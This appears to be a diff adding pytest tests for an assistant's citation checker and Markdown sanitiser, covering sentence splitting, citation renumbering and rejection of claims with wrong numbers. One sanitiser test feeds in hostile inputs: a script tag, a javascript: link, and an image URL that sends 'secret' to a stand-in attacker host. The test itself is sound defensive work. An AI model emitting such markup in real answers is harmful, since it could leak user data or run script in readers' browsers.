@@ -1,0 +1,86 @@
+"""Citation verification and safe rendering: pure functions, real embedder."""
+
+from __future__ import annotations
+
+from datetime import UTC, datetime
+
+import pytest
+
+from assistant.chunks import Chunk, ScoredChunk
+from assistant.citations import Passage, split_units, verify
+from assistant.embeddings import OnnxMiniLM
+from assistant.render import highlight, safe_markdown
+
+
+@pytest.fixture(scope="module")
+def embedder() -> OnnxMiniLM:
+    return OnnxMiniLM(threads=2)
+
+
+def _passage(n: int, text: str, embedder: OnnxMiniLM) -> Passage:
+    chunk = Chunk(
+        id=f"c{n}", document_id="d", source="s", path="s/doc.md", title="Handbook",
+        section_path=("Leave",), page=None, position=n, text=text, content_hash="h",
+        access_groups=("everyone",), ingested_at=datetime.now(UTC),
+    )  # fmt: skip
+    return Passage(n=n, hit=ScoredChunk(chunk, 1.0), text=text, vector=embedder.embed([text])[0])
+
+
+def test_sentences_keep_their_markers_and_decimals(embedder: OnnxMiniLM) -> None:
+    units = split_units("Leave accrues 2.33 days a month [1]. Five days carry over.[2] Done")
+    assert units == ["Leave accrues 2.33 days a month [1].", " Five days carry over.[2]", " Done"]
+
+
+def test_supported_citations_stay_and_are_renumbered_by_first_use(embedder: OnnxMiniLM) -> None:
+    passages = [
+        _passage(1, "Sick days do not reduce annual leave.", embedder),
+        _passage(2, "Full-time employees receive 28 days of paid annual leave.", embedder),
+    ]
+    v = verify(
+        "Employees receive 28 days of paid annual leave [2]. Sick days do not reduce it [1].",
+        passages, embedder, 0.5, 0.55,
+    )  # fmt: skip
+    assert (
+        v.text
+        == "Employees receive 28 days of paid annual leave [1]. Sick days do not reduce it [2]."
+    )
+    assert [(n, p.n) for n, p, _ in v.cited] == [(1, 2), (2, 1)]
+    assert v.removed == 0 and v.supported_sentences == 2
+
+
+def test_a_wrong_number_is_not_supported_even_with_matching_words(embedder: OnnxMiniLM) -> None:
+    passages = [_passage(1, "Full-time employees receive 28 days of paid annual leave.", embedder)]
+    v = verify(
+        "Full-time employees receive 30 days of paid annual leave [1].",
+        passages,
+        embedder,
+        0.5,
+        0.55,
+    )
+    assert v.removed == 1 and v.cited == [] and "[1]" not in v.text
+
+
+def test_markers_to_missing_passages_are_dropped(embedder: OnnxMiniLM) -> None:
+    passages = [_passage(1, "The VPN is required for the finance systems.", embedder)]
+    v = verify("The VPN is required for finance [1][4].", passages, embedder, 0.5, 0.55)
+    assert v.text == "The VPN is required for finance [1]." and v.removed == 1
+
+
+def test_html_and_exfiltrating_markup_are_neutralised() -> None:
+    out = safe_markdown(
+        "<script>alert(1)</script> ![x](https://evil.example/p.png?d=secret) "
+        "[click](javascript:alert(1)) [docs](https://intranet.example/docs)"
+    )
+    assert "<script>" not in out and "&lt;script&gt;" in out
+    assert "evil.example" not in out
+    assert "javascript:" not in out and "click" in out
+    assert "[docs](https://intranet.example/docs)" in out
+
+
+def test_highlight_marks_the_snippet_across_line_breaks() -> None:
+    passage = (
+        "Leave accrues monthly. Up to five\nunused days may be carried over.\n\nNext paragraph."
+    )
+    out = highlight(passage, "Up to five unused days may be carried over.")
+    assert ":orange-background[Up to five unused days may be carried over.]" in out
+    assert "Next paragraph." in out
